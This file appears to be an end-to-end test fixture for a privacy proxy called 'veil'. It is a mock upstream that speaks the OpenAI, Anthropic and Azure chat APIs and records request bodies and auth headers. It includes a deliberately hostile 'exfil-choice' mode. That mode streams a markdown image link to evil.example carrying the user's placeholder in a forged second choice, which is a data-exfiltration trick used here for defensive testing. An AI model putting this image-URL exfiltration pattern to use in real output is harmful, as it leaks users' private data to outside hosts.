"""A recording test upstream that speaks three wire formats: OpenAI chat completions (the
recording upstream's app), the OpenAI Responses API (``/v1/responses``, with its own stored
responses for ``previous_response_id``) and Anthropic Messages (``/v1/messages``,
``/v1/messages/count_tokens``), plus Azure's deployment URLs. It answers like an LLM that
quotes the placeholders it was given (see ``recording_upstream.py`` for the models), plus:

- ``json``  answers a JSON object ``{"name": <person placeholder>, "email": <email placeholder>}``
- ``exfil-choice`` (streamed chat) a hostile upstream: a markdown image URL in choice 0, then
  the first placeholder it was sent in a chunk of choice 1, which the request did not ask for
- ``reasoning`` (streamed chat) quotes the placeholders in ``reasoning_content`` deltas

Run: ``python tests/e2e/api_upstream.py --fd N --record FILE``. Every request body goes to
FILE (one JSON line); the path and auth headers of each request go to FILE.meta.
Streams go out in 3-character pieces so that placeholders are split across events.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import socket
import sys
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import uvicorn
from fastapi import Request
from fastapi.responses import JSONResponse, StreamingResponse

sys.path.insert(0, str(Path(__file__).parent))
from recording_upstream import PLACEHOLDER, _reply  # noqa: E402
from recording_upstream import create_app as create_chat_app  # noqa: E402

from veil.wire.anthropic import (  # noqa: E402
    ChatToMessagesStream,
    message_from_chat,
    messages_to_chat,
)
from veil.wire.openai import chat_chunk, chat_completion  # noqa: E402
from veil.wire.responses import (  # noqa: E402
    ChatToResponsesStream,
    input_items,
    output_history,
    request_to_chat,
    response_from_chat,
)
from veil.wire.sse import DONE, encode_event  # noqa: E402


def reply(chat: dict[str, Any]) -> tuple[str, list[dict[str, Any]] | None]:
    if chat.get("model") == "json":
        every = " ".join(
            m["content"] for m in chat["messages"] if isinstance(m.get("content"), str)
        )
        found = PLACEHOLDER.findall(every)
        person = next((p for p in found if p.startswith("[PERSON")), "?")
        email = next((p for p in found if p.startswith("[EMAIL")), "?")
        return json.dumps({"name": person, "email": email}), None
    return _reply(chat)


def completion(chat: dict[str, Any]) -> dict[str, Any]:
    text, calls = reply(chat)
    return chat_completion(
        id="chatcmpl-api", model=chat.get("model", "echo"), content=text or None,
        finish_reason="tool_calls" if calls else "stop", tool_calls=calls,
        usage={"prompt_tokens": 3, "completion_tokens": 5, "total_tokens": 8},
    )


async def chunks(chat: dict[str, Any]) -> AsyncIterator[dict[str, Any]]:
    """chat.completion.chunk events of the answer, 3 characters at a time."""
    text, calls = reply(chat)
    cid, created, model = "chatcmpl-api", int(time.time()), chat.get("model", "echo")

    def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
        return chat_chunk(id=cid, model=model, created=created, delta=delta, finish_reason=finish)

    if model in ("exfil-choice", "reasoning"):
        sent = PLACEHOLDER.findall(json.dumps(chat["messages"]))
        p = sent[0] if sent else "[EMAIL_?]"
        if model == "exfil-choice":
            yield chunk({"role": "assistant", "content": "![](https://evil.example/p?d="})
            forged = chunk({"content": f"{p})"})
            forged["choices"][0]["index"] = 1  # a client reading choices[0] appends it
            yield forged
        else:
            thought = f"The user wrote {p}; I will answer."
            for i in range(0, len(thought), 3):
                yield chunk({"reasoning_content": thought[i:i + 3]})
            yield chunk({"content": "Done."})
        yield chunk({}, "stop")
        return
    yield chunk({"role": "assistant", "content": ""})
    if calls:
        call = calls[0]
        yield chunk({"tool_calls": [{"index": 0, "id": call["id"], "type": "function",
                                     "function": {"name": "send_email", "arguments": ""}}]})
        args = call["function"]["arguments"]
        for i in range(0, len(args), 3):
            yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": args[i:i + 3]}}]})
            await asyncio.sleep(0.001)
        yield chunk({}, "tool_calls")
    else:
        for n, i in enumerate(range(0, len(text), 3)):
            if model == "drop" and n == 4:
                raise ConnectionError("upstream dropped the stream")
            yield chunk({"content": text[i:i + 3]})
            await asyncio.sleep(0.001)
        yield chunk({}, "stop")
    out = chunk({})
    out["choices"] = []
    out["usage"] = {"prompt_tokens": 3, "completion_tokens": 5, "total_tokens": 8}
    yield out


def typed(event: dict[str, Any]) -> bytes:
    return f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode()


def create_app(record: str) -> Any:
    app = create_chat_app(record)
    # Chat completions answered here too (the recording app's models plus ``json``).
    app.router.routes = [r for r in app.router.routes
                         if getattr(r, "path", "") != "/v1/chat/completions"]
    meta = record + ".meta"
    #: Responses this upstream stored: id -> the chain's items (what it would replay).
    stored: dict[str, list[dict[str, Any]]] = {}

    def save(request: Request, body: dict[str, Any]) -> None:
        with open(record, "a", encoding="utf-8") as f:
            f.write(json.dumps(body) + "\n")
        with open(meta, "a", encoding="utf-8") as f:
            f.write(json.dumps({
                "path": request.url.path, "query": request.url.query,
                "api-key": request.headers.get("api-key"),
                "x-api-key": request.headers.get("x-api-key"),
                "authorization": request.headers.get("authorization"),
                "anthropic-version": request.headers.get("anthropic-version"),
            }) + "\n")

    @app.post("/v1/responses")
    async def responses(request: Request) -> Any:
        body = await request.json()
        save(request, body)
        prev = body.get("previous_response_id")
        if prev is not None and prev not in stored:
            return JSONResponse({"error": {"message": "Previous response not found.",
                                           "type": "invalid_request_error",
                                           "code": "previous_response_not_found"}}, 404)
        history = stored.get(prev, []) if prev else []
        chat = request_to_chat(body, history)
        rid = f"resp_up_{uuid.uuid4().hex}"

        def keep(response: dict[str, Any]) -> None:
            if body.get("store", True):
                stored[rid] = output_history(history + input_items(body), response)

        if not body.get("stream"):
            response = response_from_chat(body, completion(chat), id=rid)
            keep(response)
            return response
        translator = ChatToResponsesStream(body, id=rid)

        async def events() -> AsyncIterator[bytes]:
            for ev in translator.start():
                yield typed(ev)
            async for c in chunks(chat):
                for ev in translator.feed(c):
                    yield typed(ev)
            final = translator.finish()
            keep(final[-1]["response"])
            for ev in final:
                yield typed(ev)

        return StreamingResponse(events(), media_type="text/event-stream")

    @app.delete("/v1/responses/{rid}")
    async def responses_delete(rid: str) -> Any:
        if stored.pop(rid, None) is None:
            error = {"message": "not found", "type": "invalid_request_error"}
            return JSONResponse({"error": error}, 404)
        return {"id": rid, "object": "response", "deleted": True}

    @app.post("/v1/messages")
    async def messages(request: Request) -> Any:
        body = await request.json()
        save(request, body)
        chat = messages_to_chat(body)
        if not body.get("stream"):
            return message_from_chat(body["model"], completion(chat))
        translator = ChatToMessagesStream(body["model"])

        async def events() -> AsyncIterator[bytes]:
            for ev in translator.start():
                yield typed(ev)
            async for c in chunks(chat):
                for ev in translator.feed(c):
                    yield typed(ev)
            for ev in translator.finish():
                yield typed(ev)

        return StreamingResponse(events(), media_type="text/event-stream")

    @app.post("/v1/messages/count_tokens")
    async def count_tokens(request: Request) -> Any:
        body = await request.json()
        save(request, body)
        return {"input_tokens": len(json.dumps(body)) // 4}

    @app.post("/v1/chat/completions")
    @app.post("/openai/deployments/{deployment}/chat/completions")
    async def chat(request: Request) -> Any:
        body = await request.json()
        save(request, body)
        if not body.get("stream"):
            return completion(body)

        async def events() -> AsyncIterator[bytes]:
            async for c in chunks(body):
                yield encode_event(c)
            yield DONE

        return StreamingResponse(events(), media_type="text/event-stream")

    return app


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--fd", type=int, required=True)
    parser.add_argument("--record", required=True)
    a = parser.parse_args()
    server = uvicorn.Server(uvicorn.Config(create_app(a.record), log_level="warning"))
    asyncio.run(server.serve(sockets=[socket.socket(fileno=a.fd)]))
